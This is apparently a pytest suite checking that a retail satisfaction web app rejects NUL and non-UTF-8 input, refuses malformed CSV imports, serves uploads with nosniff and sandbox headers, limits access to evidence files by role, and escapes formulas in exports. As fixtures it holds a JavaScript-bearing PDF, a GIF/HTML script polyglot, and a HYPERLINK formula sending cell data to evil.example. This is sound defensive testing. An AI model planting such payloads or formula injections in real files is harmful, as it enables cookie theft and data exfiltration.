"""Hostile input outside the REST API's own validation: every case of the sweep, replayed.

Each case asserts what a user (or an attacker) relies on: a clear 4xx instead of a 500, nothing
stored, and for files the headers that keep a customer's upload from running on our origin.

- NUL bytes and non-UTF-8 bytes in paths, query strings, cookies, headers and form fields:
  ``satisfaction.middleware.HostileInputMiddleware`` answers 400 before any view (PostgreSQL
  refuses NUL in text, so these were 500s wherever the value reached a query);
- the chain import: a picture renamed .csv, a NUL byte, a store code with ``/``;
- complaint attachments and mystery-shopper evidence: downloads, nosniff, a sandbox;
- who may download visit evidence (``mystery_shopper.rules.can_see_store_evidence``).
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from complaints.models import Complaint, ComplaintAttachment
from mystery_shopper.models import Appeal, Evidence
from satisfaction.models import Employee, Region, Role, Store
from satisfaction.quarters import Quarter
from satisfaction.services import chain_import
from surveys.models import Response
from tests.dashboard.factories import make_visit
from tests.factories import UserFactory
from tests.mystery_shopper.factories import ShopperFactory, jpeg_bytes, wav_bytes
from tests.pos.factories import make_key
from tests.surveys.factories import CampaignFactory, all_rated, rate

pytestmark = pytest.mark.django_db

PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
       b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N"
       b"\x00\x00\x00\x00IEND\xaeB`\x82")
# A PDF that runs JavaScript when opened, and a GIF that is also an HTML page with a script.
PDF_WITH_JS = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript"
               b"/JS(app.alert\\(document.cookie\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]"
               b"/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
GIF_HTML_POLYGLOT = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04"
                     b"\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01"
                     b"\x00;<html><script>alert(document.cookie)</script></html>")
STORES_CSV = ("store_code,store_name,region_code,region_name,city\n"
              "S1001,上海人民路店,EAST,华东区,上海\n")


def _english(client: Client) -> Client:
    client.defaults["HTTP_ACCEPT_LANGUAGE"] = "en"
    return client


def _assert_refused(response, *, api: bool = False) -> None:
    assert response.status_code == 400
    if api:
        assert response.json()["code"] == "invalid_characters"
    else:
        assert "NUL byte" in response.content.decode()


# --- NUL bytes and invalid UTF-8 in paths and query strings: 400 --------------------------


@pytest.mark.parametrize("path", [
    "/q/S0%001",            # the store's questionnaire
    "/complain/S0%001",     # the public complaint form
    "/s/%00abc",            # a receipt invitation
    "/q/%C3%28",            # bytes that are not UTF-8
    "/ticket/?ticket=%00",  # the public ticket status check
    "/q/S0001?lang=%00",
    "/complain/S0001?source=%FF",
])
def test_nul_or_non_utf8_in_a_public_path_or_query_is_a_400(path, store):
    response = _english(Client()).get(path)
    _assert_refused(response)


def test_a_public_form_posted_to_a_nul_path_stores_nothing(store):
    client = _english(Client())
    response = client.post("/complain/S0%001", {
        "customer_phone": "13800138000", "category": "price", "description": "价格不符"})
    _assert_refused(response)
    response = client.post("/q/S0%001", {"price": "5"})
    _assert_refused(response)
    assert not Complaint.objects.exists()
    assert not Response.objects.exists()


def test_a_nul_in_a_form_field_is_a_400_and_stores_nothing(store):
    response = _english(Client()).post("/complain/S0001", {
        "customer_phone": "13800138000", "category": "price",
        "description": "价格\x00不符"})
    _assert_refused(response)
    assert not Complaint.objects.exists()


def test_a_nul_in_an_uploaded_file_name_never_reaches_the_database(store, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path  # Django drops control characters from upload names
    response = Client().post("/complain/S0001", {
        "customer_phone": "13800138000", "category": "price", "description": "价格不符",
        "attachments": [SimpleUploadedFile("a\x00.png", PNG, content_type="image/png")]})
    assert response.status_code == 200
    assert ComplaintAttachment.objects.get().name == "a.png"


@pytest.mark.parametrize("path", [
    "/complaints/?q=%00",
    "/complaints/?store=S0%001",
    "/stores/?q=%00",             # a staff page query: the store list's search
    "/stores/?region=%C3%28",
    "/stores/S0%001/",
    "/scoring/stores/S0%001/",
])
def test_nul_or_non_utf8_in_a_staff_page_is_a_400(path, hq, login, store):
    response = _english(login(hq)).get(path)
    _assert_refused(response)


def test_the_400_page_is_in_the_browsers_language(store):
    response = Client(HTTP_ACCEPT_LANGUAGE="zh-hans").get("/q/S0%001")
    assert response.status_code == 400
    assert "NUL 字节" in response.content.decode()


def test_a_nul_in_the_session_cookie_or_a_header_is_a_400(hq, login):
    client = _english(login(hq))
    client.cookies["sessionid"] = "abcdefgh\x00ijklmnop"
    _assert_refused(client.get("/complaints/"))
    _assert_refused(_english(Client(HTTP_USER_AGENT="curl\x00")).get("/accounts/login/"))


def test_the_api_answers_the_same_in_its_json_shape(store):
    _key, secret = make_key(store)
    client = _english(Client(HTTP_AUTHORIZATION=f"Api-Key {secret}"))
    _assert_refused(client.get("/api/v1/pos/transactions/?store=S0%001"), api=True)
    _assert_refused(client.get("/api/v1/pos/transactions/S0001/R%001/"), api=True)
    _assert_refused(client.get("/api/v1/pos/transactions/?store=%C3%28"), api=True)


def test_ordinary_unicode_in_paths_and_queries_still_works(hq, login, store):
    client = login(hq)
    assert client.get("/complaints/?q=张三").status_code == 200
    assert client.get("/stores/?q=人民路%20店").status_code == 200
    assert Client().get("/q/S0001").status_code in (200, 404)  # no campaign: a clear page


def test_an_out_of_range_quarter_on_a_page_is_a_400(hq, login, store):
    assert login(hq).get("/stores/?quarter=2026Q9").status_code == 400


# --- The chain import: clear errors, nothing stored ---------------------------------------


@pytest.fixture
def upload(django_capture_on_commit_callbacks):
    """Upload a chain file and open the page of its check (a background job) as the user sees
    it after the redirect."""

    def _import(client: Client, name: str, content: bytes):
        with django_capture_on_commit_callbacks(execute=True):
            started = client.post("/chain/import/", {"file": SimpleUploadedFile(name, content)})
        assert started.status_code == 302
        return client.get(started.url)

    return _import


def test_a_picture_renamed_csv_is_a_clear_error_and_stores_nothing(hq, login, upload):
    response = upload(_english(login(hq)), "stores.csv", PNG)
    assert response.status_code == 200
    assert "The file is not CSV text: it is a PNG file." in response.content.decode()
    assert not Store.objects.exists()


def test_a_csv_with_a_nul_byte_is_a_clear_error_and_stores_nothing(hq, login, upload):
    content = STORES_CSV.replace("上海人民路店", "上海\x00人民路店").encode()
    response = upload(_english(login(hq)), "stores.csv", content)
    assert response.status_code == 200
    assert "it contains binary data (NUL bytes)" in response.content.decode()
    assert not Store.objects.exists()
    assert not Region.objects.exists()


def test_a_store_code_with_a_slash_is_refused_and_the_store_list_keeps_working(
        hq, login, upload):
    client = _english(login(hq))
    bad = STORES_CSV + "S10/02,杭州解放路店,EAST,华东区,杭州\nS 1003,广州店,EAST,华东区,广州\n"
    response = upload(client, "stores.csv", bad.encode())
    body = response.content.decode()
    assert response.status_code == 200
    assert "row 3, column store_code: S10/02 is not a valid code" in body
    assert "row 4, column store_code: S 1003 is not a valid code" in body
    assert not Store.objects.exists()
    assert client.get("/stores/").status_code == 200


def test_an_employee_number_with_a_slash_is_refused(hq, login, upload):
    client = _english(login(hq))
    chain_import(file_name="stores.csv", content=STORES_CSV.encode())
    staff = "employee_number,employee_name,store_code,role\nE/1,王芳,S1001,clerk\n"
    response = upload(client, "staff.csv", staff.encode())
    assert "row 2, column employee_number: E/1 is not a valid code" in response.content.decode()
    assert not Employee.objects.exists()


# --- Files: attachments and evidence are never run from our origin ------------------------


@pytest.fixture
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


def _assert_protected(response, *, disposition: str, content_type: str) -> None:
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith(disposition)
    assert response["Content-Type"] == content_type
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "default-src 'none'" in response["Content-Security-Policy"]


@pytest.mark.usefixtures("_media")
@pytest.mark.parametrize(("name", "content", "content_type"), [
    ("complaint.pdf", PDF_WITH_JS, "application/pdf"),
    ("photo.gif", GIF_HTML_POLYGLOT, "image/gif"),
    ("photo.png", PNG, "image/png"),
])
def test_complaint_attachments_are_downloads_with_nosniff_and_a_sandbox(
        name, content, content_type, store, hq, login):
    response = Client().post("/complain/S0001", {
        "customer_phone": "13800138000", "category": "price", "description": "价格不符",
        "attachments": [SimpleUploadedFile(name, content, content_type="text/html")]})
    assert response.status_code == 200  # the "filed" page with the ticket number
    complaint = Complaint.objects.get()
    attachment = complaint.attachments.get()
    download = login(hq).get(f"/complaints/{complaint.pk}/attachments/{attachment.pk}/")
    _assert_protected(download, disposition="attachment", content_type=content_type)
    assert b"".join(download.streaming_content) == content


@pytest.fixture
def evidence_world(_media, store, other_store, region, other_region, store_manager_employee):
    """An approved visit of S0001 with a photo, a recording and an appeal file, and one user of
    every role (own store / other store)."""
    shopper = ShopperFactory(username="shopperX", cities=[store.city])
    visit = make_visit(store, quarter=Quarter.current(), visited_on=timezone.localdate(),
                       score_pct=80.0, shopper=shopper)
    users = {
        "hq": UserFactory(username="hq", role=Role.HQ_ADMIN),
        "hr": UserFactory(username="hr", role=Role.HR),
        "region_manager": UserFactory(username="r1", role=Role.REGIONAL_MANAGER,
                                      regions=[region]),
        "other_region_manager": UserFactory(username="r2", role=Role.REGIONAL_MANAGER,
                                            regions=[other_region]),
        "store_manager": UserFactory(username="s1", role=Role.STORE_MANAGER, stores=[store],
                                     employee=store_manager_employee),
        "other_store_manager": UserFactory(username="s11", role=Role.STORE_MANAGER,
                                           stores=[other_store]),
        "clerk": UserFactory(username="c1", role=Role.CLERK, stores=[store]),
        "shopper": shopper,
        "other_shopper": ShopperFactory(username="shopperY", cities=[store.city]),
    }
    appeal = Appeal.objects.create(visit=visit, raised_by=users["store_manager"],
                                   reason="店员当天休假")

    def evidence(kind: str, content: bytes, extension: str, content_type: str, **extra):
        return Evidence.objects.create(
            visit=visit, kind=kind, content_type=content_type, extension=extension,
            size=len(content), uploaded_by=shopper,
            file=ContentFile(content, name=f"e.{extension}"), **extra)

    return {"users": users,
            "photo": evidence("photo", jpeg_bytes(), "jpg", "image/jpeg"),
            "polyglot": evidence("photo", GIF_HTML_POLYGLOT, "gif", "image/gif"),
            "audio": evidence("audio", wav_bytes(), "wav", "audio/wav"),
            "appeal_file": evidence("photo", jpeg_bytes(), "jpg", "image/jpeg",
                                    appeal=appeal)}


def _evidence_url(evidence: Evidence) -> str:
    return f"/mystery-shopper/evidence/{evidence.public_id}/"


def test_evidence_photos_are_inline_recordings_downloads_all_sandboxed(evidence_world,
                                                                       login):
    client = login(evidence_world["users"]["store_manager"])
    _assert_protected(client.get(_evidence_url(evidence_world["photo"])),
                      disposition="inline", content_type="image/jpeg")
    _assert_protected(client.get(_evidence_url(evidence_world["polyglot"])),
                      disposition="inline", content_type="image/gif")
    _assert_protected(client.get(_evidence_url(evidence_world["audio"])),
                      disposition="attachment", content_type="audio/wav")


# Who may download the files of an approved visit (the report's photos and recordings):
# HQ, the shopper who took them, the store's manager and regional manager. HR reads the
# reports but not the files (personal data of staff and customers), nor do clerks.
EVIDENCE_RULE = {
    "hq": 200, "shopper": 200, "store_manager": 200, "region_manager": 200,
    "hr": 404, "clerk": 404, "other_store_manager": 404, "other_region_manager": 404,
    "other_shopper": 404,
}
# The store's appeal files: the store's side and HQ, never the shopper.
APPEAL_FILE_RULE = {**EVIDENCE_RULE, "shopper": 404}


@pytest.mark.parametrize("persona", sorted(EVIDENCE_RULE))
def test_who_may_download_visit_evidence(persona, evidence_world, login):
    client = login(evidence_world["users"][persona])
    for name in ("photo", "audio"):
        assert client.get(_evidence_url(evidence_world[name])).status_code == (
            EVIDENCE_RULE[persona]), name
    assert client.get(_evidence_url(evidence_world["appeal_file"])).status_code == (
        APPEAL_FILE_RULE[persona])


def test_anonymous_visitors_are_sent_to_log_in_for_evidence(evidence_world):
    response = Client().get(_evidence_url(evidence_world["photo"]))
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


# --- Exports: no cell runs as a formula ---------------------------------------------------


def test_the_survey_export_escapes_a_store_name_that_starts_like_a_formula(
        store, region_manager, login):
    store.name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    store.save(update_fields=["name"])
    campaign = CampaignFactory()
    rate(campaign=campaign, store=store, ratings=all_rated(4))
    client = login(region_manager)
    text = client.get(f"/surveys/campaigns/{campaign.pk}/export.csv",
                      HTTP_ACCEPT_LANGUAGE="en").content.decode("utf-8-sig")
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["Store"] == "'" + store.name
    xlsx = client.get(f"/surveys/campaigns/{campaign.pk}/export.xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    cell = sheet.cell(2, 2)
    assert cell.value == store.name
    assert cell.data_type == "s"  # text, not a formula
